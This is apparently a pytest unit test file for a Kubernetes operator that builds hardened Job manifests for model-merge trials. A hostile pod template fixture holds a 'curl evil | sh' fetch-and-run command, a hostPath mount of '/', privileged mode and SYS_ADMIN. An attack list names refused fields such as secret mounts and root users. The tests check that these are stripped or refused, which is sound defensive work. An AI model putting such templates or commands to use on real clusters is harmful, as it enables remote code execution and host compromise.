"""Trial Job manifests: names, labels, the trial document, and the enforced pod security."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest

from mergerunner.trial import TrialDocument, parse_trial
from mergesearch.operator import jobs as jobspec
from mergesearch.operator import podpolicy
from mergesearch.operator.jobs import JobSettings, Owner
from mergesearch.spec import parse_spec

pytestmark = pytest.mark.unit

DNS_LABEL = re.compile(r"^[a-z0-9]([-a-z0-9]{0,61}[a-z0-9])?$")
LABEL_VALUE = re.compile(r"^([A-Za-z0-9]([-A-Za-z0-9_.]{0,61}[A-Za-z0-9])?)?$")
SETTINGS = JobSettings(default_image="registry.local/runner:1")
OWNER = Owner(name="recycle-demo", namespace="ml", uid="7d1c-uid")

HOSTILE_TEMPLATE: dict[str, Any] = {
    "metadata": {"labels": {"team": "llm"}, "annotations": {"note": "x"}},
    "spec": {
        "hostNetwork": True,
        "hostPID": True,
        "automountServiceAccountToken": True,
        "restartPolicy": "OnFailure",
        "serviceAccountName": "trainer",
        "nodeSelector": {"gpu": "h100"},
        "tolerations": [{"key": "nvidia.com/gpu", "operator": "Exists"}],
        "securityContext": {"runAsNonRoot": False, "fsGroup": 2000},
        "volumes": [
            {"name": "datasets", "persistentVolumeClaim": {"claimName": "ds"}},
            {"name": "mergesearch-cache", "hostPath": {"path": "/"}},
        ],
        "containers": [
            {
                "name": "runner",
                "image": "my.registry/runner:2",
                "command": ["sh", "-c", "curl evil | sh"],
                "args": ["--x"],
                "resources": {"limits": {"nvidia.com/gpu": 1, "memory": "80Gi"}},
                "env": [
                    {"name": "HF_TOKEN_FILE", "value": "/var/run/hf"},
                    {"name": "MERGERUNNER_TRIAL", "value": "{}"},
                ],
                "volumeMounts": [{"name": "datasets", "mountPath": "/data"}],
                "securityContext": {
                    "privileged": True,
                    "runAsNonRoot": False,
                    "runAsUser": 1000,
                    "readOnlyRootFilesystem": False,
                    "allowPrivilegeEscalation": True,
                    "capabilities": {"add": ["SYS_ADMIN"]},
                    "seccompProfile": {"type": "Unconfined"},
                },
            },
            {"name": "sidecar", "image": "busybox", "securityContext": {"privileged": True}},
        ],
    },
}


def make_spec(template: dict[str, Any] | None = None, **extra: Any) -> Any:
    data: dict[str, Any] = {
        "checkpoints": [
            {"name": "sft_a", "uri": "s3://ckpt/sft-a/"},
            {"name": "po-b", "uri": "s3://ckpt/po-b/"},
        ],
        "objective": {
            "heldIn": [{"task": "gsm8k", "metric": "exact_match,strict-match", "limit": 50}],
            "heldOut": [{"task": "ifeval"}],
            "customTasks": {"configMapRef": {"name": "my-tasks"}},
        },
        "execution": {"backoffLimit": 2, "trialTimeoutSeconds": 900},
        "storage": {
            "endpoint": "http://s3:8333",
            "region": "eu-1",
            "secretRef": {"name": "s3-creds"},
        },
        "output": {"uri": "s3://out/x/"},
        **extra,
    }
    if template is not None:
        data["execution"]["template"] = template
    return parse_spec(data)


def build(spec: Any, candidate: str = "g003-c07", generation: int | None = 3) -> dict[str, Any]:
    name = jobspec.job_name(OWNER, candidate)
    doc = jobspec.trial_document(spec, name, {"sft_a": 0.25, "po-b": 0.75}, SETTINGS)
    return jobspec.build_job(
        OWNER,
        spec,
        candidate_id=candidate,
        cma_generation=generation,
        document=doc,
        settings=SETTINGS,
    )


def runner_of(job: dict[str, Any]) -> dict[str, Any]:
    return next(c for c in job["spec"]["template"]["spec"]["containers"] if c["name"] == "runner")


def env_of(container: dict[str, Any]) -> dict[str, str]:
    return {e["name"]: e.get("value") for e in container["env"]}


# --------------------------------------------------------------------------- names


@pytest.mark.parametrize(
    "candidate", ["g003-c07", "g123-c45-r3", "b-uniform", "b-each-sft_a", "b-each-" + "x" * 63]
)
@pytest.mark.parametrize("search", ["demo", "a" * 253, "my.search.v2", "x-" * 120 + "end"])
def test_job_names_are_short_dns_labels_and_deterministic(search: str, candidate: str) -> None:
    owner = Owner(name=search, namespace="ns", uid="uid-1")
    name = jobspec.job_name(owner, candidate)
    assert len(name) <= 63 and DNS_LABEL.match(name), name
    assert name == jobspec.job_name(Owner(name=search, namespace="ns", uid="uid-1"), candidate)
    assert name != jobspec.job_name(Owner(name=search, namespace="ns", uid="uid-2"), candidate)
    assert LABEL_VALUE.match(jobspec.label_value(candidate))
    assert LABEL_VALUE.match(jobspec.label_value(search))


def test_readable_names_for_short_ids_and_no_collisions_after_sanitising() -> None:
    name = jobspec.job_name(OWNER, "g003-c07")
    assert name.startswith("recycle-demo-") and name.endswith("-g003-c07")
    a = jobspec.job_name(OWNER, "b-each-sft_a")
    b = jobspec.job_name(OWNER, "b-each-sft-a")
    assert a != b


# --------------------------------------------------------------------------- the Job


def test_job_metadata_owner_labels_and_limits() -> None:
    job = build(make_spec())
    meta = job["metadata"]
    assert meta["name"] == jobspec.job_name(OWNER, "g003-c07") and meta["namespace"] == "ml"
    (ref,) = meta["ownerReferences"]
    assert ref == {
        "apiVersion": "mergesearch.io/v1alpha1",
        "kind": "MergeSearch",
        "name": "recycle-demo",
        "uid": "7d1c-uid",
        "controller": True,
        "blockOwnerDeletion": True,
    }
    assert meta["labels"][jobspec.LABEL_SEARCH] == "recycle-demo"
    assert meta["labels"][jobspec.LABEL_ITERATION] == "3"
    assert meta["labels"][jobspec.LABEL_CANDIDATE] == "g003-c07"
    assert meta["annotations"][jobspec.ANNOTATION_CANDIDATE] == "g003-c07"
    assert job["spec"]["backoffLimit"] == 2 and job["spec"]["activeDeadlineSeconds"] == 900
    pod_labels = job["spec"]["template"]["metadata"]["labels"]
    assert pod_labels[jobspec.LABEL_SEARCH] == "recycle-demo"  # pods are indexed by it too
    baseline = build(make_spec(), candidate="b-each-sft_a", generation=None)
    assert baseline["metadata"]["labels"][jobspec.LABEL_ITERATION] == "baseline"


def test_the_trial_document_travels_in_env_with_its_digest() -> None:
    job = build(make_spec())
    env = env_of(runner_of(job))
    doc = parse_trial(env[jobspec.ENV_TRIAL])
    assert doc.id == job["metadata"]["name"]
    assert doc.weights == {"sft_a": 0.25, "po-b": 0.75}
    assert [t.task for t in doc.held_in] == ["gsm8k"] and doc.held_out == []
    assert doc.custom_tasks_dir is None  # the mount is named in env: the pod's layout
    assert env[jobspec.ENV_CUSTOM_TASKS] == SETTINGS.custom_tasks_dir
    assert not doc.output.save_model
    digest = job["metadata"]["annotations"][jobspec.ANNOTATION_DIGEST]
    assert digest == jobspec.document_digest(env[jobspec.ENV_TRIAL])
    assert build(make_spec()) == job  # deterministic, byte for byte


def test_the_document_carries_the_search_evaluator_or_else_the_benchmark_objective() -> None:
    spec = make_spec(
        objective={
            "heldIn": [{"task": "gsm8k", "limit": 50}],
            "evaluator": {"backend": "vllm", "batchSize": 8, "genKwargs": {"temperature": 0}},
        }
    )
    doc = jobspec.trial_document(spec, "j", {"sft_a": 0.5, "po-b": 0.5}, SETTINGS)
    assert doc.evaluator.to_wire() == spec.objective.evaluator.to_wire()  # the same JSON

    # Only the operator's deployment (benchmarks, recovery tests) picks the analytic objective:
    # the spec cannot (tests/unit/test_spec.py, test_crd.py).
    benchmark = JobSettings.from_env({"MERGESEARCH_BENCHMARK_OBJECTIVE": "analytic"})
    assert benchmark.analytic_trials and not JobSettings.from_env({}).analytic_trials
    doc = jobspec.trial_document(spec, "j", {"sft_a": 0.5, "po-b": 0.5}, benchmark)
    assert doc.evaluator.backend == "analytic"
    with pytest.raises(ValueError, match="MERGESEARCH_BENCHMARK_OBJECTIVE='hf'"):
        JobSettings.from_env({"MERGESEARCH_BENCHMARK_OBJECTIVE": "hf"})


def test_the_final_document_scores_held_out_tasks_and_exports() -> None:
    spec = make_spec()
    doc = jobspec.trial_document(
        spec, "final-job", {"sft_a": 0.5, "po-b": 0.5}, SETTINGS, finalization=True
    )
    assert isinstance(doc, TrialDocument)
    assert [t.task for t in doc.held_out] == ["ifeval"] and doc.held_in == []
    assert doc.output.uri == "s3://out/x/" and doc.output.save_model


def test_security_is_enforced_even_when_the_template_tries_to_override_it() -> None:
    """The builder copies allowed fields only: even a template the check would refuse (the
    reconcile never builds one) gives a hardened pod."""
    job = build(make_spec(HOSTILE_TEMPLATE))
    pod = job["spec"]["template"]["spec"]
    assert pod["automountServiceAccountToken"] is False
    assert pod["serviceAccountName"] == "default"
    assert [c["name"] for c in pod["containers"]] == ["runner"]  # no sidecar
    assert not any("hostPath" in v for v in pod["volumes"])
    assert pod["restartPolicy"] == "Never"
    assert not {"hostNetwork", "hostPID", "hostIPC"} & set(pod)
    assert pod["securityContext"]["runAsNonRoot"] is True
    assert pod["securityContext"]["seccompProfile"] == {"type": "RuntimeDefault"}
    assert pod["securityContext"]["fsGroup"] == 2000  # harmless template fields stay
    assert "SYS_ADMIN" not in json.dumps(pod) and "curl" not in json.dumps(pod)
    for container in pod["containers"]:
        sc = container["securityContext"]
        assert sc["runAsNonRoot"] is True and sc["readOnlyRootFilesystem"] is True
        assert sc["allowPrivilegeEscalation"] is False and sc["privileged"] is False
        assert sc["capabilities"] == {"drop": ["ALL"]}
        assert sc["seccompProfile"] == {"type": "RuntimeDefault"}
    runner = runner_of(job)
    assert runner["securityContext"]["runAsUser"] == 1000
    assert runner["command"] == ["mergerunner", "run"] and runner["args"] == []
    assert runner["terminationMessagePolicy"] == "File"
    assert runner["terminationMessagePath"] == "/dev/termination-log"
    env = env_of(runner)
    assert parse_trial(env[jobspec.ENV_TRIAL]).id == job["metadata"]["name"]  # not "{}"
    assert [e["name"] for e in runner["env"]].count(jobspec.ENV_TRIAL) == 1
    volumes = {v["name"]: v for v in pod["volumes"]}
    assert volumes["mergesearch-cache"] == {"name": "mergesearch-cache", "emptyDir": {}}


ALLOWED_TEMPLATE: dict[str, Any] = {
    "metadata": {"labels": {"team": "llm"}, "annotations": {"note": "x"}},
    "spec": {
        "nodeSelector": {"gpu": "h100"},
        "tolerations": [{"key": "nvidia.com/gpu", "operator": "Exists"}],
        "affinity": {"nodeAffinity": {}},
        "priorityClassName": "batch-low",
        "runtimeClassName": "nvidia",
        "restartPolicy": "Never",
        "automountServiceAccountToken": False,
        "securityContext": {"runAsNonRoot": True, "fsGroup": 2000, "runAsUser": 1000},
        "volumes": [
            {"name": "datasets", "persistentVolumeClaim": {"claimName": "ds"}},
            {"name": "scratch", "emptyDir": {"sizeLimit": "10Gi"}},
        ],
        "containers": [
            {
                "name": "runner",
                "image": "my.registry/runner:2",
                "resources": {"limits": {"nvidia.com/gpu": 1, "memory": "80Gi"}},
                "env": [
                    {"name": "HF_HUB_OFFLINE", "value": "1"},
                    {"name": "POD", "valueFrom": {"fieldRef": {"fieldPath": "metadata.name"}}},
                    {"name": "MERGERUNNER_TRIAL", "value": "{}"},
                ],
                "volumeMounts": [{"name": "datasets", "mountPath": "/data", "readOnly": True}],
                "securityContext": {
                    "runAsUser": 1001,
                    "readOnlyRootFilesystem": True,
                    "allowPrivilegeEscalation": False,
                    "capabilities": {"drop": ["ALL"]},
                },
            }
        ],
    },
}


def test_an_allowed_template_passes_the_check_and_its_fields_are_kept() -> None:
    assert podpolicy.check_template(ALLOWED_TEMPLATE) == []
    job = build(make_spec(ALLOWED_TEMPLATE))
    template = job["spec"]["template"]
    pod = template["spec"]
    assert template["metadata"]["labels"]["team"] == "llm"
    assert template["metadata"]["annotations"]["note"] == "x"
    assert pod["nodeSelector"] == {"gpu": "h100"}
    assert pod["tolerations"] == [{"key": "nvidia.com/gpu", "operator": "Exists"}]
    assert pod["priorityClassName"] == "batch-low" and pod["runtimeClassName"] == "nvidia"
    assert pod["serviceAccountName"] == SETTINGS.service_account == "default"
    assert pod["securityContext"]["fsGroup"] == 2000
    runner = runner_of(job)
    assert runner["image"] == "my.registry/runner:2"
    assert runner["resources"] == {"limits": {"nvidia.com/gpu": 1, "memory": "80Gi"}}
    assert runner["securityContext"]["runAsUser"] == 1001
    env = env_of(runner)
    assert env["HF_HUB_OFFLINE"] == "1" and parse_trial(env[jobspec.ENV_TRIAL])
    assert {"name": "datasets", "mountPath": "/data", "readOnly": True} in runner["volumeMounts"]
    assert {v["name"] for v in pod["volumes"]} >= {"datasets", "scratch"}
    assert [c["name"] for c in pod["containers"]] == ["runner"]
    ALLOWED_TEMPLATE["spec"]["containers"][0]["image"] = "mutated"  # nothing is shared
    assert runner_of(job)["image"] == "my.registry/runner:2"
    ALLOWED_TEMPLATE["spec"]["containers"][0]["image"] = "my.registry/runner:2"


def test_the_hostile_template_is_refused_field_by_field() -> None:
    problems = podpolicy.check_template(HOSTILE_TEMPLATE)
    fields = {line.split(": ", 1)[0] for line in problems}
    t = "spec.execution.template.spec"
    assert fields == {
        f"{t}.hostNetwork",
        f"{t}.hostPID",
        f"{t}.automountServiceAccountToken",
        f"{t}.restartPolicy",
        f"{t}.serviceAccountName",
        f"{t}.securityContext.runAsNonRoot",
        f"{t}.volumes[1].hostPath",
        f"{t}.containers[1]",
        f"{t}.containers[0].command",
        f"{t}.containers[0].args",
        f"{t}.containers[0].securityContext.privileged",
        f"{t}.containers[0].securityContext.runAsNonRoot",
        f"{t}.containers[0].securityContext.readOnlyRootFilesystem",
        f"{t}.containers[0].securityContext.allowPrivilegeEscalation",
        f"{t}.containers[0].securityContext.capabilities",
        f"{t}.containers[0].securityContext.seccompProfile",
    }, problems


T = "spec.execution.template.spec"
MOUNT = {"name": "v", "mountPath": "/x"}
ATTACKS = [
    # (what the template asks for, the field the refusal names)
    ({"volumes": [{"name": "h", "hostPath": {"path": "/etc"}}]}, f"{T}.volumes[0].hostPath"),
    ({"volumes": [{"name": "s", "secret": {"secretName": "db"}}]}, f"{T}.volumes[0].secret"),
    ({"volumes": [{"name": "c", "configMap": {"name": "x"}}]}, f"{T}.volumes[0].configMap"),
    (
        {"volumes": [{"name": "t", "projected": {"sources": [{"serviceAccountToken": {}}]}}]},
        f"{T}.volumes[0].projected",
    ),
    ({"volumes": [{"name": "n", "nfs": {"server": "x", "path": "/"}}]}, f"{T}.volumes[0].nfs"),
    ({"volumes": [{"name": "e", "ephemeral": {}}]}, f"{T}.volumes[0].ephemeral"),
    ({"nodeName": "gpu-7"}, f"{T}.nodeName"),
    ({"serviceAccountName": "admin"}, f"{T}.serviceAccountName"),
    ({"serviceAccount": "admin"}, f"{T}.serviceAccount"),
    ({"automountServiceAccountToken": True}, f"{T}.automountServiceAccountToken"),
    ({"hostNetwork": True}, f"{T}.hostNetwork"),
    ({"hostUsers": True}, f"{T}.hostUsers"),
    ({"shareProcessNamespace": True}, f"{T}.shareProcessNamespace"),
    ({"imagePullSecrets": [{"name": "regcred"}]}, f"{T}.imagePullSecrets"),
    ({"initContainers": [{"name": "i", "image": "busybox"}]}, f"{T}.initContainers"),
    ({"ephemeralContainers": [{"name": "e"}]}, f"{T}.ephemeralContainers"),
    ({"hostAliases": [{"ip": "1.2.3.4"}]}, f"{T}.hostAliases"),
    ({"securityContext": {"runAsUser": 0}}, f"{T}.securityContext.runAsUser"),
    ({"securityContext": {"runAsGroup": 0}}, f"{T}.securityContext.runAsGroup"),
    ({"securityContext": {"fsGroup": 0}}, f"{T}.securityContext.fsGroup"),
    ({"securityContext": {"supplementalGroups": [0]}}, f"{T}.securityContext.supplementalGroups"),
    ({"securityContext": {"seLinuxOptions": {}}}, f"{T}.securityContext.seLinuxOptions"),
    ({"securityContext": {"sysctls": [{"name": "x"}]}}, f"{T}.securityContext.sysctls"),
    ({"securityContext": {"runAsNonRoot": False}}, f"{T}.securityContext.runAsNonRoot"),
    ({"containers": [{"name": "runner"}, {"name": "side"}]}, f"{T}.containers[1]"),
    ({"containers": {"name": "runner"}}, f"{T}.containers"),
    ({"containers": [{"ports": [{"hostPort": 80}]}]}, f"{T}.containers[0].ports"),
    ({"containers": [{"lifecycle": {"postStart": {}}}]}, f"{T}.containers[0].lifecycle"),
    ({"containers": [{"livenessProbe": {"exec": {}}}]}, f"{T}.containers[0].livenessProbe"),
    ({"containers": [{"command": ["sh"]}]}, f"{T}.containers[0].command"),
    ({"containers": [{"envFrom": [{"secretRef": {"name": "db"}}]}]}, f"{T}.containers[0].envFrom"),
    (
        {"containers": [{"env": [{"name": "P", "valueFrom": {"secretKeyRef": {"name": "db"}}}]}]},
        f"{T}.containers[0].env[0].valueFrom.secretKeyRef",
    ),
    (
        {"containers": [{"securityContext": {"runAsUser": 0}}]},
        f"{T}.containers[0].securityContext.runAsUser",
    ),
    (
        {"containers": [{"securityContext": {"capabilities": {"add": ["NET_RAW"]}}}]},
        f"{T}.containers[0].securityContext.capabilities",
    ),
    (
        {"containers": [{"volumeMounts": [{**MOUNT, "mountPropagation": "B"}]}]},
        f"{T}.containers[0].volumeMounts[0].mountPropagation",
    ),
]  # fmt: skip


@pytest.mark.parametrize(("pod", "field"), ATTACKS)
def test_each_field_outside_the_allow_list_is_refused_by_name(pod: dict, field: str) -> None:
    problems = podpolicy.check_template({"spec": pod})
    assert [p.split(": ", 1)[0] for p in problems] == [field], problems
    bare = podpolicy.check_template(pod)  # a bare pod spec: the same field, one level up
    assert [p.split(": ", 1)[0] for p in bare] == [field.replace(".spec.", ".", 1)], bare


def test_template_metadata_takes_labels_and_annotations_only() -> None:
    problems = podpolicy.check_template({"metadata": {"name": "x", "labels": {"a": 1}}})
    assert problems == [
        "spec.execution.template.metadata.name: only labels and annotations may be set",
        "spec.execution.template.metadata.labels: must map strings to strings",
    ]
    assert podpolicy.check_template({"spec": {}, "kind": "Pod"})[0].startswith(
        "spec.execution.template.kind:"
    )


def test_the_trial_service_account_may_be_named_and_is_always_set() -> None:
    settings = JobSettings(default_image="i", service_account="mergesearch-trial")
    template = {"spec": {"serviceAccountName": "mergesearch-trial"}}
    assert podpolicy.check_template(template, "mergesearch-trial") == []
    assert podpolicy.check_template(template) != []  # not the operator's choice
    name = jobspec.job_name(OWNER, "g000-c00")
    spec = make_spec()
    doc = jobspec.trial_document(spec, name, {"sft_a": 0.5, "po-b": 0.5}, settings)
    job = jobspec.build_job(
        OWNER, spec, candidate_id="g000-c00", cma_generation=0, document=doc, settings=settings
    )
    pod = job["spec"]["template"]["spec"]
    assert pod["serviceAccountName"] == "mergesearch-trial"
    assert pod["automountServiceAccountToken"] is False
    assert not any("projected" in v for v in pod["volumes"])


def test_missing_requests_are_detected() -> None:
    assert podpolicy.missing_requests(None)
    assert podpolicy.missing_requests({"spec": {"containers": [{"name": "runner"}]}})
    assert not podpolicy.missing_requests(ALLOWED_TEMPLATE)
    requests = {"containers": [{"resources": {"requests": {"cpu": "1"}}}]}
    assert not podpolicy.missing_requests(requests)


def test_writable_paths_are_empty_dirs_and_the_default_image_fills_in() -> None:
    job = build(make_spec({"spec": {"containers": [{"name": "runner"}]}}))
    runner = runner_of(job)
    assert runner["image"] == "registry.local/runner:1"
    mounts = {m["mountPath"]: m["name"] for m in runner["volumeMounts"]}
    assert mounts[SETTINGS.cache_dir] == "mergesearch-cache"
    assert mounts[SETTINGS.tmp_dir] == "mergesearch-tmp"
    env = env_of(runner)
    assert env["MERGERUNNER_CACHE_DIR"] == SETTINGS.cache_dir and env["TMPDIR"] == "/tmp"
    bare = build(make_spec())  # no template at all
    assert runner_of(bare)["image"] == "registry.local/runner:1"


def test_a_template_volume_at_the_cache_path_is_used_instead_of_an_empty_dir() -> None:
    template = {
        "spec": {
            "containers": [
                {
                    "name": "runner",
                    "volumeMounts": [{"name": "shared", "mountPath": SETTINGS.cache_dir}],
                }
            ],
            "volumes": [{"name": "shared", "persistentVolumeClaim": {"claimName": "cache"}}],
        }
    }
    job = build(make_spec(template))
    names = [v["name"] for v in job["spec"]["template"]["spec"]["volumes"]]
    assert "shared" in names and "mergesearch-cache" not in names


def test_credentials_only_by_reference_to_the_secret() -> None:
    job = build(make_spec(HOSTILE_TEMPLATE))
    pod = job["spec"]["template"]["spec"]
    volumes = {v["name"]: v for v in pod["volumes"]}
    assert volumes["mergesearch-storage-credentials"]["secret"] == {"secretName": "s3-creds"}
    runner = runner_of(job)
    mount = next(m for m in runner["volumeMounts"] if m["name"].endswith("credentials"))
    assert mount["readOnly"] is True and mount["mountPath"] == SETTINGS.credentials_dir
    env = env_of(runner)
    assert env[jobspec.ENV_CREDENTIALS] == SETTINGS.credentials_dir
    assert env["AWS_ENDPOINT_URL"] == "http://s3:8333" and env["AWS_REGION"] == "eu-1"
    text = json.dumps(job)
    for secret_name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"):
        assert secret_name not in text
    assert "envFrom" not in text


def test_custom_tasks_are_mounted_from_the_config_map() -> None:
    job = build(make_spec())
    volumes = {v["name"]: v for v in job["spec"]["template"]["spec"]["volumes"]}
    assert volumes["mergesearch-custom-tasks"]["configMap"] == {"name": "my-tasks"}
    mount = next(m for m in runner_of(job)["volumeMounts"] if m["name"].endswith("custom-tasks"))
    assert mount["mountPath"] == SETTINGS.custom_tasks_dir and mount["readOnly"] is True


def test_failing_runs_are_not_retried_but_crashes_are() -> None:
    job = build(make_spec())
    rules = job["spec"]["podFailurePolicy"]["rules"]
    assert rules[0]["action"] == "FailJob"
    assert rules[0]["onExitCodes"] == {
        "containerName": "runner",
        "operator": "In",
        "values": [1, 2],
    }


def test_settings_from_env() -> None:
    settings = JobSettings.from_env({"MERGESEARCH_RUNNER_IMAGE": "img:2"})
    assert settings.default_image == "img:2" and settings.command == ("mergerunner", "run")
    assert JobSettings.from_env({}).default_image == jobspec.FALLBACK_IMAGE
    # Without the chart: the runner image of this operator's own release, never `latest`.
    expected = f"{jobspec.RUNNER_REPOSITORY}:{jobspec.operator_version()}"
    assert expected == jobspec.FALLBACK_IMAGE
    assert not jobspec.FALLBACK_IMAGE.endswith(":latest")
    assert JobSettings.from_env({}).service_account == "default"
    trial_sa = {jobspec.SERVICE_ACCOUNT_ENV: "mergesearch-trial"}
    assert JobSettings.from_env(trial_sa).service_account == "mergesearch-trial"


def test_the_preflight_document_names_the_export_destination_without_writing_it() -> None:
    job = jobspec.build_preflight_job(OWNER, make_spec(), SETTINGS)
    doc = parse_trial(env_of(runner_of(job))["MERGERUNNER_TRIAL"])
    assert doc.output.uri == "s3://out/x/" and doc.output.save_model is False
